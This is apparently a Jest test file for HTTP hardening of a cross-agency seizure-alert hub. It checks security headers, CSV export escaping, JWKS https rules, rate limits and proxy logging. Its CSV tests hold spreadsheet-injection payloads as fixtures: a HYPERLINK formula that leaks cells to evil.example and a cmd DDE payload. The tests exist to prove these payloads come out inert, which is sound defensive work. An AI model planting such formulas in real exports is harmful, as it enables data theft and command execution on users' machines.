import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import pg from 'pg';
import { HubEnv, loadConfig, NodeEnv } from '@cix/config';
import { call, eventually, minimalSeizure } from '../support/http.js';
import { startPlatform, token } from '../support/platform.js';
import { hubWith, nodeWith, type Configured } from './configured-services.js';

// Threat model, HTTP edge (issue 10, items 6 and 14): a browser must not be turned against its
// user (security headers, a Content-Security-Policy, exports that never carry a live formula), a
// caller cannot flood writes, exports or token guessing, and the edge tells the truth about who
// called (trust proxy) and what it runs (no X-Powered-By, /docs can be off).
describe('HTTP hardening', () => {
  let p: Awaited<ReturnType<typeof startPlatform>>;
  let kz: string, az: string, coordinator: string;
  const csv = (url: string, t: string) => fetch(url, { headers: { authorization: `Bearer ${t}`, accept: 'text/csv' } });

  beforeAll(async () => {
    p = await startPlatform(['AZ', 'KZ']);
    [kz, az, coordinator] = await Promise.all([token('KZ', 'officer', 'KZ-AKTAU'), token('AZ', 'officer', 'AZ-ALYAT'), token('CCP', 'coordinator')]);
  }, 90_000);
  afterAll(() => p?.close());

  describe('security headers', () => {
    it('every service answers with helmet headers and a Content-Security-Policy, never X-Powered-By', async () => {
      for (const url of [`${p.hub.url}/api/reference`, `${p.nodes.KZ.url}/api/reference`, `${p.hub.url}/health`, `${p.hub.url}/api/alerts`]) {
        const r = await fetch(url, { headers: { authorization: `Bearer ${kz}` } });
        expect(r.headers.get('x-powered-by')).toBeNull();
        expect(r.headers.get('x-content-type-options')).toBe('nosniff');
        expect(r.headers.get('x-frame-options')).toBe('SAMEORIGIN');
        const csp = r.headers.get('content-security-policy') ?? '';
        expect(csp).toContain("default-src 'self'");
        expect(csp).toContain("script-src 'self'");
        expect(csp).toContain("frame-ancestors 'none'");
        expect(csp).toContain("object-src 'none'");
        expect(csp).not.toContain('unsafe-inline');
      }
      // errors too (the 401 is answered by the guard, the 404 by the router)
      for (const r of [await fetch(`${p.hub.url}/api/alerts`), await fetch(`${p.hub.url}/api/nowhere`)]) {
        expect(r.headers.get('x-powered-by')).toBeNull();
        expect(r.headers.get('content-security-policy')).toContain("default-src 'self'");
      }
    });

    it('/docs is served by default, with a policy that lets Swagger UI style itself', async () => {
      const r = await fetch(`${p.hub.url}/docs`);
      expect(r.status).toBe(200);
      expect(r.headers.get('content-security-policy')).toContain("style-src 'self' 'unsafe-inline'");
      expect(r.headers.get('content-security-policy')).toContain("script-src 'self'");
    });
  });

  describe('CSV exports', () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
    beforeAll(async () => {
      // Another agency (KZ) names the shipper; an AZ officer and the coordinator export it.
      for (const [i, name] of [hyperlink, "+cmd|' /C calc'!A0", '@SUM(1+1)', 'ТОО «Каспий Транс»'].entries()) {
        const r = await call('POST', `${p.nodes.KZ.url}/api/alerts`, {
          token: kz,
          headers: { 'idempotency-key': `csv-${i}` },
          body: minimalSeizure({ quantity: { value: 12.5, unit: 'kg' }, parties: [{ role: 'shipper', name }] }),
        });
        expect(r.status).toBe(201);
      }
      await eventually(
        async () => (await call('GET', `${p.hub.url}/api/trends/seizures?groupBy=shipper`, { token: az })).body.rows?.length === 4,
        'the four shippers on the hub',
      );
    });

    it('a formula entered by another agency comes out inert; UTF-8 BOM; an attachment with a sensible name', async () => {
      const r = await csv(`${p.hub.url}/api/trends/seizures?groupBy=shipper`, az);
      expect(r.status).toBe(200);
      expect(r.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
      expect(r.headers.get('content-disposition')).toMatch(/^attachment; filename="cix-trends-seizures-by-shipper-\d{4}-\d{2}-\d{2}\.csv"$/);
      expect(r.headers.get('cache-control')).toBe('no-store');
      const bytes = new Uint8Array(await r.arrayBuffer());
      expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes).slice(1);
      const lines = text.split('\n').filter(Boolean);
      expect(lines[0]).toBe('key,series,count,kg,litres,pieces,containers');
      // No cell (quoted or not) starts with a formula character any more.
      for (const line of lines.slice(1)) expect(line).not.toMatch(/^"?[=+@\-\t\r]/);
      expect(lines).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",,1,12.5,0,0,0`);
      expect(lines.some((l) => l.startsWith("'+cmd|"))).toBe(true);
      expect(lines.some((l) => l.startsWith("'@SUM(1+1)"))).toBe(true);
      expect(lines.some((l) => l.startsWith('ТОО «Каспий Транс»,'))).toBe(true);
    });

    it('a semicolon-separated variant for Russian-locale spreadsheets, with decimal commas', async () => {
      const r = await csv(`${p.hub.url}/api/trends/seizures?groupBy=shipper&delimiter=semicolon`, coordinator);
      expect(r.status).toBe(200);
      const lines = (await r.text()).split('\n').filter(Boolean);
      expect(lines[0]).toBe('key;series;count;kg;litres;pieces;containers');
      expect(lines).toContain('ТОО «Каспий Транс»;;1;12,5;0;0;0');
      expect((await csv(`${p.hub.url}/api/trends/seizures?groupBy=shipper&delimiter=tab`, coordinator)).status).toBe(400);
    });

    it('the effectiveness export is written the same way', async () => {
      const r = await csv(`${p.hub.url}/api/trends/effectiveness?groupBy=unit`, coordinator);
      expect(r.headers.get('content-disposition')).toMatch(/^attachment; filename="cix-trends-effectiveness-by-unit-/);
      expect([...new Uint8Array(await r.arrayBuffer()).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    });
  });

  it('JWKS URLs must be https: a service refuses to start with an http one unless local development allows it', () => {
    const env = (extra: Record<string, string>) => ({
      DATABASE_URL: 'postgres://x@127.0.0.1/x',
      AGENCY: 'KZ',
      NODE_SIGNING_KEY_FILE: 'k',
      NODE_SIGNING_KEY_ID: 'k',
      ...extra,
    });
    expect(() => loadConfig(NodeEnv, env({ AUTH_ISSUERS: 'KZ:https://idp.kz=http://idp.kz/certs' }))).toThrow(/AUTH_ISSUERS.*https/);
    expect(() =>
      loadConfig(HubEnv, {
        ...env({ AUTH_ISSUERS: 'KZ:https://idp.kz=http://idp.kz/certs' }),
        NODE_PUBLIC_KEYS: 'x',
        HUB_SIGNING_KEY_FILE: 'k',
        HUB_SIGNING_KEY_ID: 'k',
      }),
    ).toThrow(/AUTH_ISSUERS/);
    expect(() => loadConfig(NodeEnv, env({ AUTH_ISSUERS: 'KZ:https://idp.kz=https://idp.kz/certs' }))).not.toThrow();
    expect(() =>
      loadConfig(NodeEnv, env({ AUTH_ISSUERS: 'KZ:http://127.0.0.1:8080/realms/kz=http://127.0.0.1:8080/certs', AUTH_ALLOW_HTTP_JWKS: 'true' })),
    ).not.toThrow();
    // allowed http is for a provider on this machine only
    expect(() => loadConfig(NodeEnv, env({ AUTH_ISSUERS: 'KZ:http://idp.kz/realms/kz=http://idp.kz/certs', AUTH_ALLOW_HTTP_JWKS: 'true' }))).toThrow(
      /AUTH_ISSUERS/,
    );
    expect(() => loadConfig(NodeEnv, env({ AUTH_ISSUERS: 'KZ=/keys/issuer-KZ.pub.pem' }))).not.toThrow();
  });

  describe('rate limits and configuration', () => {
    let node: Configured;
    let hub: Configured;
    let hubBehindProxy: Configured;
    beforeAll(async () => {
      node = await nodeWith('KZ', { RATE_LIMIT_WRITES: '3', RATE_LIMIT_AUTH_FAILURES: '3', RATE_LIMIT_WINDOW_SECONDS: '60', DOCS_ENABLED: 'false' });
      hub = await hubWith({ RATE_LIMIT_EXPORTS: '2', TRUST_PROXY: 'false' });
      hubBehindProxy = await hubWith({ TRUST_PROXY: 'loopback' });
    }, 90_000);
    afterAll(async () => {
      await node?.close();
      await hub?.close();
      await hubBehindProxy?.close();
    });

    it('writes over the limit answer 429 with Retry-After, per caller; reads are not counted', async () => {
      const other = await token('KZ', 'officer', 'KZ-KURYK', 'kz-other-officer');
      for (let i = 0; i < 3; i++) {
        expect((await call('POST', `${node.url}/api/alerts`, { token: kz, headers: { 'idempotency-key': `w-${i}` }, body: minimalSeizure() })).status).toBe(
          201,
        );
      }
      const refused = await call('POST', `${node.url}/api/alerts`, { token: kz, headers: { 'idempotency-key': 'w-3' }, body: minimalSeizure() });
      expect(refused.status).toBe(429);
      expect(refused.body.code).toBe('REQUEST.RATE_LIMITED');
      expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0);
      expect(Number(refused.headers.get('retry-after'))).toBeLessThanOrEqual(60);
      // the refused write was not stored
      expect((await call('GET', `${node.url}/api/alerts`, { token: kz })).body.items).toHaveLength(3);
      for (let i = 0; i < 5; i++) expect((await call('GET', `${node.url}/api/alerts`, { token: kz })).status).toBe(200);
      expect(
        (await call('POST', `${node.url}/api/alerts`, { token: other, headers: { 'idempotency-key': 'o-1' }, body: minimalSeizure({ unit: 'KZ-KURYK' }) }))
          .status,
      ).toBe(201);
    });

    it('exports over the limit answer 429 with Retry-After; the same figures as JSON are not exports', async () => {
      const officer = await token('KZ', 'officer', 'KZ-AKTAU', 'kz-exporter');
      expect((await csv(`${hub.url}/api/trends/seizures?groupBy=commodity`, officer)).status).toBe(200);
      expect((await csv(`${hub.url}/api/trends/effectiveness`, officer)).status).toBe(200);
      const refused = await csv(`${hub.url}/api/trends/seizures?groupBy=commodity`, officer);
      expect(refused.status).toBe(429);
      expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0);
      expect((await call('GET', `${hub.url}/api/trends/seizures?groupBy=commodity`, { token: officer })).status).toBe(200);
      const auditor = await token('KZ', 'auditor', undefined, 'kz-export-auditor');
      expect((await call('GET', `${hub.url}/api/audit/events`, { token: auditor })).status).toBe(200);
      expect((await call('GET', `${hub.url}/api/audit/events`, { token: auditor })).status).toBe(200);
      expect((await call('GET', `${hub.url}/api/audit/events`, { token: auditor })).status).toBe(429);
    });

    it('/docs can be turned off', async () => {
      expect((await fetch(`${node.url}/docs`)).status).toBe(404);
      expect((await fetch(`${node.url}/docs-json`)).status).toBe(404);
    });

    // last: it puts this test's address over the failed-authentication limit for the rest of the window
    it('failed authentications over the limit answer 429 with Retry-After for that address', async () => {
      for (let i = 0; i < 3; i++) expect((await call('GET', `${node.url}/api/alerts`, { token: `${kz}x` })).status).toBe(401);
      const refused = await call('GET', `${node.url}/api/alerts`, { token: `${kz}x` });
      expect(refused.status).toBe(429);
      expect(refused.body.code).toBe('REQUEST.RATE_LIMITED');
      expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0);
      expect((await call('GET', `${node.url}/api/alerts`, { token: 'garbage' })).status).toBe(429);
      expect((await call('GET', `${node.url}/api/alerts`)).status).toBe(429);
      // A whole agency may share one address (NAT, proxy): whoever fails to authenticate from it
      // must not lock out the officers whose tokens verify; health probes get through too.
      expect((await call('GET', `${node.url}/api/alerts`, { token: kz })).status).toBe(200);
      expect((await fetch(`${node.url}/health`)).status).toBe(200);
    });

    it('the access log records the client address: X-Forwarded-For only when TRUST_PROXY trusts the proxy', async () => {
      const forwarded = { authorization: `Bearer ${coordinator}`, accept: 'text/csv', 'x-forwarded-for': '203.0.113.9' };
      expect((await fetch(`${hubBehindProxy.url}/api/trends/seizures?groupBy=unit`, { headers: forwarded })).status).toBe(200);
      expect((await fetch(`${hub.url}/api/trends/seizures?groupBy=unit`, { headers: forwarded })).status).toBe(200);
      const ips = async (databaseUrl: string) => {
        const db = new pg.Client({ connectionString: databaseUrl });
        await db.connect();
        try {
          return (await db.query(`SELECT payload->>'ip' AS ip FROM events WHERE payload->>'action' = 'trends.export'`)).rows.map((r) => r.ip);
        } finally {
          await db.end();
        }
      };
      expect(await ips(hubBehindProxy.databaseUrl)).toEqual(['203.0.113.9']);
      expect((await ips(hub.databaseUrl)).every((ip) => /127\.0\.0\.1$/.test(ip))).toBe(true);
    });
  });
});
